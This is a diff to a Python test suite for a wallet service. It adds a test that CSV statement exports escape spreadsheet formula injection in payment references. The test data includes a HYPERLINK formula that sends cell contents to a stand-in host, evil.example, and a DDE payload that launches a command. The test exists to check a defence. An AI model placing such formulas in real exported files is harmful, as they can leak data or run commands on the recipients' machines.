@@ -1,6 +1,8 @@
 """A statement that is streamed gives back what it uses, whatever becomes of its client; and there are not too many."""
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator, Callable, Sequence
 from contextlib import asynccontextmanager
 from datetime import UTC, datetime
@@ -8,7 +10,7 @@ from typing import Any, cast
 
 import pytest
 import uvloop
-from unit.http.wallet_double import WalletDouble
+from unit.http.wallet_double import WalletDouble, call
 
 from wallet_engine.http import application as application_module
 from wallet_engine.http.application import Application, create_app
@@ -158,6 +160,40 @@ def test_g13_a_key_that_ends_is_sent_no_more() -> None:
             await until(lambda: not reader.open)
 
     uvloop.run(run())
+
+
+TEXTS = [
+    *(
+        '=HYPERLINK("https://evil.example?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\uff1d1+1",
+        "'quoted'",
+    ),
+    *("''twice", "room 7", "a, b", 'say "so"', "1=1", "\U0001f600"),
+]
+
+
+def test_no_cell_of_a_callers_text_is_a_formula_and_the_text_can_be_had_again() -> None:
+    """A payer who writes a formula as reference must not run it in the spreadsheet of whom he paid."""
+
+    class Told(Statement):
+        async def lines(self) -> AsyncIterator[Sequence[Any]]:
+            yield [{**ROW, "reference": each} for each in TEXTS]
+            yield [{**ROW, "counterparty": each} for each in ("-1", "@bank", "bob")]
+
+    class ToldReader(Reader):
+        @asynccontextmanager
+        async def statement(self, *_: Any) -> AsyncIterator[Statement]:
+            yield Told(0)
+
+    body = call(app_of(ToldReader()), "GET", f"{PATH}&format=csv").content
+    _, *rows, _ = csv.DictReader(io.StringIO(body.decode()))
+    told = [row["reference"] for row in rows[: len(TEXTS)]]
+    assert not [cell for cell in told if cell[0] in "=+-@\uff1d"]
+    assert [cell.removeprefix("'") for cell in told] == TEXTS
+    assert [row["counterparty"] for row in rows[len(TEXTS) :]] == ["'-1", "@bank", "bob"]
 
 
 def test_a_head_alone_reads_nothing() -> None:
